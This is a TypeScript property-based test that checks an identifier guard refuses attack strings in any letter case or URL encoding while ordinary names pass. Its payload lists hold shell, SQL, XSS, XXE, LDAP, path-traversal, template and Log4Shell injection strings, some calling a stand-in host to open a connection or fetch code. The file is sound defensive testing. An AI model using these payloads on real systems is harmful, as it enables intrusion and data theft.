/** Attacks and names that are put together at random: what must not pass in any dress, and what must always pass. */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { NOWHERE, type Site } from '#sluice/guards/roles/check.js'
import { checkIdentifier } from '#sluice/guards/roles/identifier.js'
import { seeded } from '../protocol/seed.js'

const SITE: Site = { role: 'identifier', at: '/x', tool: 't', settings: {}, reach: NOWHERE }
const word = fc.string({ unit: fc.constantFrom(...Array.from('bhjkpqvwz')), minLength: 4, maxLength: 8 })

/** Read alike in capitals and in small letters. */
const ANY_CASE = [
  '; cat /etc/passwd',
  '&& whoami',
  '|| uname -a',
  '| nc 203.0.113.7 4444',
  ';id;',
  '`wget http://203.0.113.7/x`',
  '$(curl http://203.0.113.7/x)',
  "' or '1'='1",
  "' union select 1,2,3-- ",
  '"; drop table users;--',
  '-1 union select password from users',
  '<script>alert(1)</script>',
  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///c">]>',
  '<img src=x onerror=alert(1)>',
  '*)(uid=*))(|(uid=*',
  '/../../../../etc/passwd',
  ' & ping -n 9 127.0.0.1 &',
  '\r\nset-cookie: a=b',
]
const AS_IT_IS = [
  '{{7*7}}',
  '${7*7}',
  "{{''.__class__.__mro__}}",
  '${T(java.lang.Runtime).getRuntime()}',
  '<%= system("id") %>',
  '%s%s%s%n',
  '{"$ne": null}',
  '[$gt]=',
  '--exec=/bin/sh',
  ' -oProxyCommand=id',
  'cat${IFS}/etc/passwd;$IFS',
  '() { :;}; id',
  '${jndi:ldap://203.0.113.7/a}',
]

const encoded = (text: string): string =>
  text.replaceAll(/[^A-Za-z0-9]/gu, (character) =>
    [...Buffer.from(character)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join(''),
  )
const dress = fc.constantFrom<(text: string) => string>(
  (text) => text,
  encoded,
  (text) => encoded(encoded(text)),
)
const cased = fc
  .tuple(fc.constantFrom(...ANY_CASE), fc.array(fc.boolean(), { minLength: 64, maxLength: 64 }))
  .map(([attack, upper]) => Array.from(attack, (letter, at) => (upper[at] === true ? letter.toUpperCase() : letter)).join(''))
const before = fc.oneof(
  fc.constant(''),
  word,
  fc.tuple(word, fc.nat(99)).map(([name, n]) => `${name}-${n}`),
)

test('an attack behind any name, in any case and in any encoding is refused', (t) => {
  const attack = fc.oneof({ arbitrary: cased, weight: 2 }, fc.constantFrom(...AS_IT_IS))
  fc.assert(
    fc.property(before, attack, dress, (name, core, dressed) => {
      assert.ok(checkIdentifier(dressed(name + core), SITE) !== undefined)
    }),
    seeded(t, 5_000),
  )
})

test('words with ordinary punctuation between them, and one other character anywhere, pass', (t) => {
  const between = fc.constantFrom('-', '_', '.', ' ', '/', ':', ', ')
  const character = fc.constantFrom(...Array.from('!"#$%&\'()*+,-./:;<=>?@[\\]^_`{|}~é日'))
  fc.assert(
    fc.property(fc.array(word, { minLength: 1, maxLength: 4 }), between, character, fc.nat(40), (words, joint, odd, place) => {
      const name = words.join(joint)
      const at = 1 + (place % name.length)
      assert.equal(checkIdentifier(name.slice(0, at) + odd + name.slice(at), SITE)?.rule, undefined)
    }),
    seeded(t, 10_000),
  )
})
